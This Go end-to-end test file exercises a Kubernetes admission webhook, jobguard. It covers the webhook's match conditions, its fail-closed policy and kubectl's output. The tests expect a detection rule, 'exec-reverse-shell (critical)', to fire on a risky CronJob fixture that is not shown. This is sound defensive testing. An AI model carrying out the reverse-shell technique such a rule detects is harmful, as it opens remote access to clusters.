// TestControllerObjectsAreNotSent checks the match condition of deploy/webhook.yaml: Pods that the
// built-in controllers create are not sent to the webhook (their templates were judged), Pods that
// users create are.
func TestControllerObjectsAreNotSent(t *testing.T) {
	e := setup(t)
	const ns = "e2e-controllers"
	namespace(t, e, ns, map[string]string{webhook.LabelEnforce: "high"})
	if _, err := create(e.admin, ns, privilegedPod, true); err == nil || !strings.Contains(err.Error(), deniedByWebhook) {
		t.Fatalf("a user's privileged Pod: want a denial, got %v", err)
	}
	for _, sa := range []string{"job-controller", "daemon-set-controller", "replicaset-controller"} {
		if _, err := create(e.c.ServiceAccountConfig("kube-system", sa), ns, privilegedPod, true); err != nil {
			t.Errorf("%s's Pod was sent to the webhook: %v", sa, err)
		}
	}
	// The deployment controller's identity creating a Pod (not its kind of object) is still judged.
	if _, err := create(e.c.ServiceAccountConfig("kube-system", "deployment-controller"), ns, privilegedPod, true); err == nil {
		t.Error("a Pod from the deployment controller's identity was not judged")
	}
}

// TestOwnNamespaceAndFailurePolicy: with the webhook unreachable, requests it would judge fail
// (failurePolicy Fail), except in its own namespace, which is never sent: jobguard can be restarted.
func TestOwnNamespaceAndFailurePolicy(t *testing.T) {
	e := setup(t)
	ctx := context.Background()
	// Nothing listens on the port of a closed listener.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	deadURL := "https://" + ln.Addr().String() + "/validate"
	ln.Close()
	vwc, err := shippedConfig(deadURL, e.ca)
	if err != nil {
		t.Fatal(err)
	}
	vwc.Name = "down.e2e.jobguard.io"
	vwc.Webhooks[0].Name = vwc.Name
	vwc.Webhooks[0].ObjectSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"e2e.jobguard.io/down": "true"}}
	if _, err := e.cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, vwc, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	defer e.cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Delete(ctx, vwc.Name, metav1.DeleteOptions{})
	labelled := strings.Replace(cleanCronJob, "name: nightly-report\n", "name: nightly-report\n  labels: {e2e.jobguard.io/down: \"true\"}\n", 1)
	const ns = "e2e-fail-closed"
	namespace(t, e, ns, nil)
	err = waitUntil(20*time.Second, func() error {
		_, err := create(e.admin, ns, labelled, true)
		if err == nil || !strings.Contains(err.Error(), `failed calling webhook "down.e2e.jobguard.io"`) {
			return fmt.Errorf("want the create to fail closed, got %v", err)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	// The webhook's own namespace: even a risky CronJob is stored (and the unreachable webhook is not called).
	if _, err := create(e.admin, webhookNS, strings.Replace(riskyCronJob, "name: log-rotate\n", "name: log-rotate\n  labels: {e2e.jobguard.io/down: \"true\"}\n", 1), false); err != nil {
		t.Errorf("%s is sent to the webhook: %v", webhookNS, err)
	}
}

// TestKubectl runs the kubectl on PATH against the cluster, as a user would.
func TestKubectl(t *testing.T) {
	e := setup(t)
	kubectl, err := exec.LookPath("kubectl")
	if err != nil {
		t.Skip("kubectl is not on PATH")
	}
	namespace(t, e, "e2e-kubectl", nil)
	namespace(t, e, "e2e-kubectl-warn", map[string]string{webhook.LabelEnforce: "none"})
	run := func(ns, manifest string, args ...string) (string, error) {
		cmd := exec.Command(kubectl, append([]string{"--kubeconfig", e.c.Kubeconfig(), "-n", ns, "apply", "-f", "-"}, args...)...)
		cmd.Stdin = strings.NewReader(manifest)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	out, err := run("e2e-kubectl", riskyCronJob)
	if err == nil {
		t.Errorf("kubectl apply of a risky CronJob succeeded:\n%s", out)
	}
	containsAll(t, "kubectl's output", out, "Error from server (Forbidden)", deniedByWebhook+"CronJob e2e-kubectl/log-rotate", "exec-reverse-shell (critical)")

	out, err = run("e2e-kubectl-warn", riskyCronJob, "--dry-run=server")
	if err != nil {
		t.Fatalf("kubectl apply --dry-run=server: %v\n%s", err, out)
	}
	containsAll(t, "kubectl's output", out, "Warning: jobguard: exec-reverse-shell (critical)", "cronjob.batch/log-rotate created (server dry run)")

	out, err = run("e2e-kubectl", cleanCronJob)
	if err != nil {
		t.Fatalf("kubectl apply of a clean CronJob: %v\n%s", err, out)
	}
	if strings.Contains(out, "Warning") {
		t.Errorf("warnings for a clean CronJob:\n%s", out)
	}
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}
